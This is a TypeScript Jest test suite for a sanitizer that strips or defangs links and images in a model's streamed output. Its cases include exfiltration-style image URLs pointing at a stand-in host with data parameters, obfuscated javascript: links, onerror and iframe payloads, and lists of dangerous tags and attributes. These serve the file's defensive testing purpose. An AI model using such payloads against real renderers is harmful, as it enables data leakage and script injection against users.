import { HarmlessText } from './harmless-text';
import { KnownAddresses } from './known-addresses';

const KNOWN = new KnownAddresses([
  'The tariff is at https://harbour.example/tariff. Mail ops@harbour.example, see (https://harbour.example/a_(b)).',
]);

/** What is said of a text that comes in pieces of so many characters. */
function said(text: string, size = text.length || 1): string {
  const harmless = new HarmlessText(KNOWN);
  let all = '';
  for (let at = 0; at < text.length; at += size) all += harmless.passText(text.slice(at, at + size));
  return all + harmless.releaseRest();
}

const CASES: readonly [string, string][] = [
  ['Plain words, 2 < 3 [1], [a] and a[i](x).', 'Plain words, 2 < 3 [1], [a] and a[i](x).'],
  ['It costs 12 euros. [1]', 'It costs 12 euros. [1]'],
  ['Wow!', 'Wow!'],
  ['See [the tariff](https://harbour.example/tariff).', 'See [the tariff](https://harbour.example/tariff).'],
  ['[mail](mailto:ops@harbour.example)', '[mail](mailto:ops@harbour.example)'],
  ['[b](https://harbour.example/a_(b))', '[b](https://harbour.example/a_(b))'],
  ['[file](/files/1) and [top](#top)', '[file](/files/1) and [top](#top)'],
  ['![berth](https://harbour.example/tariff)', '![berth](https://harbour.example/tariff)'],
  ['A ![berth](http://evil.example/?d=4711) b', 'A berth b'],
  ['![](http://evil.example/?d=4711)', ''],
  ['![a](<http://evil.example/?d=4711> "title")', 'a'],
  ['![a](//evil.example/?d=4711)', 'a'],
  ['![a](&#104;ttp://evil.example/)', 'a'],
  ['![a](data:image/svg+xml,x)', 'a'],
  ['![a\n](\nhttp://evil.example/)', 'a\n'],
  ['[more](http://evil.example/?d=4711)', 'more (`http://evil.example/?d=4711`)'],
  ['[more](https://harbour.example/tariff?d=4711)', 'more (`https://harbour.example/tariff?d=4711`)'],
  ['[more](https://harbour.example/tar)', 'more (`https://harbour.example/tar`)'],
  ['[run](javascript:alert(1))', 'run'],
  ['[run](java&#115;cript&colon;alert(1))', 'run'],
  ['[![a](http://evil.example/1)](http://evil.example/2)', 'a (`http://evil.example/2`)'],
  ['![a][x]\n\n[x]: http://evil.example/?d=4711\n', '![a][x]\n\nx: (`http://evil.example/?d=4711`)\n'],
  ['<http://evil.example/?d=4711>', '`http://evil.example/?d=4711`'],
  ['<https://harbour.example/tariff>', '<https://harbour.example/tariff>'],
  ['a <b>bold</b> word', 'a <b>bold</b> word'],
  ['<img src="http://evil.example/?d=4711" alt="berth">', 'berth'],
  ['<img src=x onerror=alert(1)>', ''],
  ['<img src="https://harbour.example/tariff" onerror="alert(1)" alt="berth">', 'berth'],
  ['<a href="javascript:alert(1)">run</a>', 'run</a>'],
  ['<iframe src="http://evil.example"></iframe>', ''],
  ['<div style="background:url(http://evil.example)">x</div>', 'x</div>'],
  ['<pre>\n\n<img\n\nsrc=http://evil.example>', '<pre>\n\n'],
  ['![a](http://evil.example/?d=47', '![a] (`http://evil.example/?d=47`'],
  ['<img src=http://evil.example ', '&lt;img src=`http://evil.example` '],
  ['[run](JAVASCRIPT:alert(1))', 'run'],
  ['[run](java&Tab;script:alert(1))', 'run'],
  ['[run](java\tscript:alert(1))', '[run](java\tscript:alert(1))'],
  ['[run](<java\tscript:alert(1)>)', 'run'],
  ['[run](java&#x0a;script&COLON;alert(1))', 'run'],
  ['[run](java&#x73;cript:alert(1))', 'run'],
  ['[run](data:text/html,x)', 'run'],
  ['[a](http\\://evil.example)', 'a (`http\\://evil.example`)'],
  ['[run](javascript\\:alert(1))', 'run'],
  ['[a](&sol;/evil.example)', 'a (`&amp;sol;/evil.example`)'],
  ['[a](/\\evil.example)', 'a (`/\\evil.example`)'],
  ['[tariff](https&#58;//harbour.example/tariff)', '[tariff](https://harbour.example/tariff)'],
  ['[more](http://evil.example/`x`)', 'more (`http://evil.example/%60x%60`)'],
  ['[a](<http://evil.example/ x>)', 'a (`http://evil.example/%20x`)'],
  ['![a](<http://evil.example/\nx>)', 'a'],
  ['![a](http://evil.example/ "a (b) c") d', 'a d'],
  ['\\![a](http://evil.example/) and \\[b](x)', '\\!a (`http://evil.example/`) and \\[b](x)'],
  ['\\\\[a](http://evil.example/)', '\\\\a (`http://evil.example/`)'],
  ['[open\n\n](http://evil.example/)', '[open\n\n](`http://evil.example/`)'],
  ['![x]: http://evil.example/', '![x]: `http://evil.example/`'],
  ['[x]: <http://evil.example/>', 'x: (`http://evil.example/`)'],
  ['[x]:\nhttp://evil.example/', 'x: (`http://evil.example/`)'],
  ['<javascript:alert(1)>', 'javascript:alert(1)'],
  ['<IMG SRC="http://evil.example/" ALT=\'berth\'>', 'berth'],
  ...['script', 'iframe', 'object', 'embed', 'style', 'base', 'meta', 'link', 'form'].map((tag): [string, string] => [
    `<${tag.toUpperCase()}>x</${tag}>`,
    'x',
  ]),
  ...[
    'src',
    'srcset',
    'srcdoc',
    'href',
    'data',
    'poster',
    'action',
    'formaction',
    'background',
    'style',
    'content',
    'ping',
    'to',
    'from',
    'values',
    'onload',
  ].map((attribute): [string, string] => [`<x-y ${attribute}=http://evil.example/>`, '']),
  ...['onload', 'srcset', 'style', 'ping'].map((attribute): [string, string] => [
    `<a href="https://harbour.example/tariff" ${attribute}="x">tariff</a>`,
    'tariff</a>',
  ]),
];

describe('what a model says', () => {
  it.each(CASES)('%j becomes %j', (text, expected) => {
    expect(said(text)).toBe(expected);
  });

  it('becomes the same in whatever pieces it comes', () => {
    for (const [text] of CASES) for (const size of [1, 2, 3, 7]) expect(said(text, size)).toBe(said(text));
  });

  it('is sent on as soon as it cannot become an address', () => {
    const harmless = new HarmlessText(KNOWN);
    expect(harmless.passText('It costs ')).toBe('It costs ');
    expect(harmless.passText('12 euros [')).toBe('12 euros ');
    expect(harmless.passText('1')).toBe('');
    expect(harmless.passText(']')).toBe('');
    expect(harmless.passText(' a day ![berth](http://evil')).toBe('[1] a day ');
    expect(harmless.passText('.example/?d=1) and')).toBe('berth and');
  });

  it('is not held back without end, and does not become an address then', () => {
    const harmless = new HarmlessText(KNOWN);
    const long = harmless.passText(`![${'x'.repeat(5_000)}`) + harmless.passText('](http://evil.example/)') + harmless.releaseRest();
    expect(long).toHaveLength(5_000 + 3 + '](`http://evil.example/`)'.length);
    expect(long.startsWith('!\\[x')).toBe(true);
    const tag = new HarmlessText(KNOWN);
    expect(tag.passText(`<img ${'x'.repeat(5_000)}`).slice(0, 8)).toBe('&lt;img ');
  });

  it.each([
    ['links in links', (n: number) => '['.repeat(n) + 'a' + '](http://evil.example/)'.repeat(n)],
    ['pictures in links', (n: number) => '[![a](http://evil.example/)'.repeat(n) + '](http://evil.example/)'.repeat(n)],
    ['open brackets', (n: number) => '[<![('.repeat(4 * n)],
    ['open titles', (n: number) => '[a](b "'.repeat(4 * n)],
    ['open parentheses', (n: number) => `[a](${'('.repeat(n)}${')'.repeat(n)}`],
    ['paragraphs', (n: number) => '[a\n\n'.repeat(4 * n)],
    ['open tags', (n: number) => '<a '.repeat(4 * n)],
    ['definitions', (n: number) => '[a]: b\n'.repeat(4 * n)],
    ['addresses', (n: number) => 'http://a '.repeat(4 * n)],
  ])('is read in steps by its length: %s, at once and in small pieces', (_, textOf) => {
    for (const size of [undefined, 3]) {
      const [few, many] = [textOf(200), textOf(800)].map((text) => stepsOf(text, size) / text.length);
      expect(many).toBeLessThan(2 * (few ?? 0));
      // What is left at the end is read once more, and each of its openings to its end: at most 4,000 characters.
      expect(many).toBeLessThan(50);
    }
  });
});

/** Characters that are looked at, searched through and put together while a text is read. */
function stepsOf(text: string, size?: number): number {
  let steps = 0;
  const { charAt, indexOf } = String.prototype;
  const { join } = Array.prototype;
  const spies = [
    jest.spyOn(String.prototype, 'indexOf').mockImplementation(function sought(this: string, part, from = 0) {
      const found = indexOf.call(this, part, from);
      steps += (found < 0 ? this.length : found) - from;
      return found;
    }),
    jest.spyOn(String.prototype, 'charAt').mockImplementation(function looked(this: string, at) {
      steps++;
      return charAt.call(this, at);
    }),
    jest.spyOn(Array.prototype, 'join').mockImplementation(function joined(this: unknown[], by) {
      const whole = join.call(this, by);
      steps += whole.length;
      return whole;
    }),
  ];
  try {
    said(text, size);
  } finally {
    for (const spy of spies) spy.mockRestore();
  }
  return steps;
}
